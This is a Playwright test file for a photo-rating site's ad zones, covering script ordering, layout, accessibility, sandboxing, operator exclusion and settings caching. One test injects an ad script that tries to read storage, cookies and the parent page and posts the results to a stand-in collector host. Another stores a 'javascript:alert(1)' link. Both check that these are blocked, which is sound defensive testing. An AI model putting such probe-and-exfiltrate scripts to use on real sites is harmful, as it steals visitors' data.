import type { Page } from '@playwright/test'
import { expectAccessible } from './accessible.ts'
import { expect, test } from './fixtures.ts'
import { rateScreen } from './rate-screen.ts'
import type { Site } from './running-site.ts'

const setAd = (site: Site, adCode: string, isSandboxed = false) =>
  site.query(
    `INSERT INTO ad_zones (zone_id, zone_name, ad_code, is_active, is_sandboxed) VALUES ('zone1', 'Ad Zone 1', $1, true, $2)
     ON CONFLICT (zone_id) DO UPDATE SET (ad_code, is_sandboxed) = ROW (excluded.ad_code, excluded.is_sandboxed)`,
    [adCode, isSandboxed],
  )
const setSkipButton = (site: Site, buttonText: string, buttonUrl: string) =>
  site.query(
    `INSERT INTO skip_button (zone_name, button_text, button_url, is_active) VALUES ('Skip Button', $1, $2, true)`,
    [buttonText, buttonUrl],
  )

const adOn = (page: Page) => page.getByRole('complementary', { name: 'Advertisement' })
const linkTo = (page: Page, path: string) => page.getByRole('navigation', { name: 'Main' }).locator(`[href="${path}"]`)

/** Answers for the script of an ad network. */
const serveScript = (page: Page, name: string, code: string) =>
  page.route(`https://ads.example/${name}`, (route) =>
    route.fulfill({ contentType: 'text/javascript', headers: { 'access-control-allow-origin': '*' }, body: code }),
  )

/** What the scripts of an ad noted in the page. */
const noted = (page: Page) => page.evaluate(() => document.documentElement.dataset.noted ?? '')
const note = (what: string) =>
  `document.documentElement.dataset.noted = (document.documentElement.dataset.noted ?? '') + '${what} ';`

test('the scripts of an ad run in their order: inline, from elsewhere, written, and after one that does not load', async ({
  page,
  site,
  visitor,
  problems,
}) => {
  problems.expect(/ERR_FAILED https:\/\/ads\.example/)
  await (await visitor()).uploadPhotos(2)
  await page.route('https://ads.example/**', (route) => route.abort())
  for (const name of ['first', 'second', 'written']) await serveScript(page, `${name}.js`, note(name))
  await setAd(
    site,
    `<p>Buy this</p><script>${note('inline')}</script><script src="https://ads.example/first.js"></script>
     <script>${note('between')}</script><script async src="https://ads.example/second.js"></script>
     <script>document.write('<b>Old ad</b><script src="https://ads.example/written.js"></' + 'script>')</script>
     <script type="application/json">{"no": "code"}</script><script>${note('later')}</script>
     <script src="https://ads.example/gone.js"></script><script>${note('last')}</script>`,
  )
  await page.goto('/')
  const rate = rateScreen(page)
  await rate.shown(1)
  await expect(adOn(page)).toContainText('Buy this')
  await expect(adOn(page).getByText('Old ad')).toBeVisible()
  await expect.poll(() => noted(page)).toBe('inline first between second written later last ')
  // What went wrong in an ad stops nothing.
  await rate.hot.click()
  await rate.shown(2)
})

test('no zone without ad code; with it, at least 50 px high, and nothing covers it', { tag: '@phone' }, async ({
  page,
  site,
  visitor,
}) => {
  await (await visitor()).uploadPhotos(2)
  const rate = rateScreen(page)
  const asked = page.waitForResponse('**/api/ad-config/zone1')
  await page.goto('/')
  await rate.shown(1)
  expect(await (await asked).json()).toEqual({ adCode: '', isSandboxed: false })
  // By the time that the next photo is there, the answer has long been drawn.
  await rate.skip.click()
  await rate.shown(2)
  await expect(adOn(page)).toHaveCount(0)

  await setAd(site, '<i>.</i>')
  await page.reload()
  await rate.shown(1)
  await expect.poll(async () => (await adOn(page).boundingBox())?.height).toBe(50)
  await setAd(site, '<div style="height: 90px">.</div>')
  await page.reload()
  await expect.poll(async () => (await adOn(page).boundingBox())?.height).toBe(90)
  // Nothing that is fixed on the screen covers it.
  await adOn(page).scrollIntoViewIfNeeded()
  await adOn(page)
    .getByText('.')
    .click({ position: { x: 1, y: 88 } })
})

test('the zone is accessible, in the page and in its frame', async ({ page, site, visitor }) => {
  await (await visitor()).uploadPhotos(1)
  for (const isSandboxed of [false, true]) {
    await setAd(site, '<a style="color: #000; background: #fff" href="https://shop.example/">Buy this</a>', isSandboxed)
    await page.goto('/')
    await rateScreen(page).shown(1)
    await adOn(page).scrollIntoViewIfNeeded()
    const content = isSandboxed ? adOn(page).locator('iframe').contentFrame() : adOn(page)
    await expect(content.getByRole('link', { name: 'Buy this' })).toBeVisible()
    await expectAccessible(page)
  }
})

test('no ad runs in the browser of an operator', async ({ page, site, visitor }) => {
  await (await visitor()).uploadPhotos(1)
  await page.addInitScript(() => localStorage.setItem('adminToken', 'secret'))
  for (const isSandboxed of [false, true]) {
    await setAd(site, `<p>Buy this</p><script>${note('ran')}</script>`, isSandboxed)
    await page.goto('/')
    await expect(adOn(page)).toContainText('does not run in a browser that is logged in as operator')
    await expect(adOn(page)).not.toContainText('Buy this')
    await expect(page.locator('iframe')).toHaveCount(0)
    expect(await noted(page)).toBe('')
  }
})

test('a sandboxed ad runs in its frame and reaches nothing of the site', async ({ page, site, visitor, problems }) => {
  problems.expect(/./)
  await (await visitor()).uploadPhotos(1)
  const collected = Promise.withResolvers<Record<string, string>>()
  await page.route('https://collector.example/**', async (route) => {
    if (route.request().method() === 'POST') collected.resolve(route.request().postDataJSON())
    await route.fulfill({ headers: { 'access-control-allow-origin': '*' }, body: '' })
  })
  await setAd(
    site,
    `<p>Framed</p><script>
      const found = { origin: self.origin }
      const attempt = async (name, act) => {
        try { found[name] = 'reached ' + (await act()) } catch (error) { found[name] = error.name }
      }
      ;(async () => {
        await attempt('storage', () => localStorage.length)
        await attempt('cookie', () => document.cookie)
        await attempt('parent', () => parent.document.title)
        await attempt('top', () => top.localStorage.length)
        await attempt('channel', () => { new BroadcastChannel('x'); throw new TypeError('of its own origin') })
        await attempt('api', async () => (await fetch('${site.url}/api/ad-config/zone1')).text())
        await attempt('navigation', () => { top.location.href = 'https://elsewhere.example/' })
        await fetch('https://collector.example/', { method: 'POST', mode: 'no-cors', body: JSON.stringify(found) })
      })()
    </script>`,
    true,
  )
  await page.goto('/')
  await rateScreen(page).shown(1)
  await adOn(page).scrollIntoViewIfNeeded()
  await expect(adOn(page).locator('iframe').contentFrame().getByText('Framed')).toBeVisible()
  const found = await collected.promise
  expect(found.origin).toBe('null')
  for (const name of ['storage', 'cookie', 'parent', 'top', 'api']) expect(found[name], name).toMatch(/Error$/)
  await expect(page).toHaveURL('/')
})

test('the takedown form is opened anew when an ad has run before', async ({ page, site, visitor }) => {
  await (await visitor()).uploadPhotos(1)
  await setAd(site, `<p>Buy this</p><script>${note('ran')}</script>`)
  const frames: string[] = []
  page.on('request', (request) => request.url().includes('/ad-frame') && frames.push(request.url()))
  await page.goto('/')
  await expect.poll(() => noted(page)).toBe('ran ')
  await linkTo(page, '/dmca').click()
  await expect(page.getByRole('heading', { level: 1, name: 'DMCA Takedown' })).toBeVisible()
  await expect(page).toHaveURL('/dmca')
  expect(await noted(page)).toBe('')
  await expect(adOn(page)).toHaveCount(0)

  // And back: the strict document of the form gives way to one that may show the ad.
  await linkTo(page, '/').click()
  await expect(adOn(page)).toContainText('Buy this')
  await expect.poll(() => noted(page)).toBe('ran ')
  expect(frames).toEqual([])
})

test('the skip button says what was set and leads there, by click and by key; to no address it skips', async ({
  page,
  site,
  visitor,
}) => {
  await (await visitor()).uploadPhotos(2)
  await page.route('https://partner.example/**', (route) =>
    route.fulfill({ contentType: 'text/html', body: 'Partner' }),
  )
  await setSkipButton(site, 'More like this', 'https://partner.example/more')
  const rate = rateScreen(page)
  const button = page.getByRole('button', { name: 'More like this' })
  for (const press of [() => button.click(), () => page.keyboard.press('s')]) {
    await page.goto('/')
    await rate.shown(1)
    await expect(button).toBeVisible()
    await press()
    await expect(page).toHaveURL('https://partner.example/more')
  }

  await site.query(`UPDATE skip_button SET button_text = 'Next one', button_url = 'javascript:alert(1)'`)
  await page.goto('/')
  await rate.shown(1)
  await page.getByRole('button', { name: 'Next one' }).click()
  await rate.shown(2)
  await expect(page).toHaveURL('/')
})

const MINUTE = 60_000
const KEPT_5 = ['/api/ad-config/skip-button', '/api/ad-config/zone1']
const KEPT_30 = ['/api/email-capture-config', '/api/vote-multiplier-config']

test('settings are kept for 5 and 30 minutes', async ({ page, visitor }) => {
  await (await visitor()).uploadPhotos(1)
  const rate = rateScreen(page)
  const asked: string[] = []
  page.on('request', (request) => {
    const path = new URL(request.url()).pathname
    if ([...KEPT_5, ...KEPT_30].includes(path)) asked.push(path)
  })
  await page.clock.install()
  await page.goto('/')
  await expect.poll(() => [...asked].sort()).toEqual([...KEPT_5, ...KEPT_30])
  await rate.shown(1)
  /** What is asked for anew. The clock goes on besides, by less than the minute that a test may take. */
  const askedAfter = async (minutes: number) => {
    asked.length = 0
    await linkTo(page, '/upload').click()
    await expect(page.getByRole('heading', { name: 'Upload Media' })).toBeVisible()
    await page.clock.fastForward(minutes * MINUTE)
    await linkTo(page, '/').click()
    // The photo was asked for together with them, and is there.
    await rate.shown(1)
    return [...asked].sort()
  }
  expect(await askedAfter(4)).toEqual([])
  expect(await askedAfter(2)).toEqual(KEPT_5)
  expect(await askedAfter(22)).toEqual(KEPT_5)
  expect(await askedAfter(3)).toEqual(KEPT_30)
})

test('failing settings are asked for once more, and the page goes on without', async ({ page, visitor, problems }) => {
  problems.expect(/^500 .*-config/)
  await (await visitor()).uploadPhotos(2)
  const asked: string[] = []
  await page.route(/-config/, (route) => {
    asked.push(new URL(route.request().url()).pathname)
    return route.fulfill({ status: 500, body: 'broken' })
  })
  await page.clock.install()
  await page.goto('/')
  const rate = rateScreen(page)
  await rate.shown(1)
  const count = (path: string) => asked.filter((one) => one === path).length
  for (const path of KEPT_5) await expect.poll(() => count(path), path).toBe(2)
  await rate.skip.click()
  await rate.shown(2)
  await page.clock.runFor(60_000)
  // What was asked for before this is counted by now.
  await page.evaluate(() => fetch('/healthz').then(({ ok }) => ok))
  for (const path of KEPT_5) expect(count(path), path).toBe(2)
})
